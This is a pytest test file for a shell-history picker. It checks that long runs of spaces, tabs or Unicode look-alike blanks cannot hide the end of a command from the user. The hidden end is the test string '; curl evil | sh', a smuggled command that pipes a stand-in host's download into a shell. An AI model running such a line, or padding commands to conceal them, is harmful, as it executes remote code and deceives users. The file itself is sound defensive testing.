"""A command of a shared history hides its end behind blanks, and Enter runs all of it."""

from __future__ import annotations

import pytest

from hx.picker.view.rows import row_line
from hx.picker.view.styles import BARE
from picker.sample_frames import NOW_US, row

END = "; curl evil | sh"


def shown(text, columns=80, matched=()):
    """Return the line of a row with this command, and check that it has the width it states."""
    line, cells = row_line(row(0)._replace(text=text, matched=matched), columns, NOW_US, BARE, 1)
    assert len(line) == cells
    return line


@pytest.mark.parametrize("blanks", [" " * 8, " " * 300, " " * 70_000, "\t" * 300, " \t" * 200])
def test_what_follows_a_long_run_of_blanks_is_seen(blanks):
    line = shown(f"git push{blanks}{END}")
    assert f"git push ␣{len(blanks)} {END}" in line


def test_what_follows_the_second_run_is_seen_too():
    line = shown("git push" + " " * 99 + "# x" + " " * 99 + END)
    assert f"git push ␣99 # x ␣99 {END}" in line


def test_blanks_at_the_beginning_hide_nothing():
    assert f"␣200 {END}" in shown(" " * 200 + END)


@pytest.mark.parametrize(
    "text", ["a   b", "a" + " " * 7 + "b", "if x; then\n                y\nfi", "a\tb"]
)
def test_few_blanks_and_the_indentation_of_further_lines_are_shown_as_before(text):
    assert "␣" not in shown(text)


@pytest.mark.parametrize("blank", "\u00a0\u115f\u2003\u2800\u3000\u3164\uffa0")
def test_a_blank_of_another_kind_is_spelled(blank):
    line = shown("git push" + blank * 300 + END)
    assert line.count(ascii(blank)[1:-1]) > 4
    assert blank not in line


def test_a_command_that_does_not_fit_ends_with_a_mark():
    assert shown("x" * 90 + " " * 300 + END).rstrip().endswith("…")
    assert shown("x" * 60 + " " * 300 + END).rstrip().endswith("…")
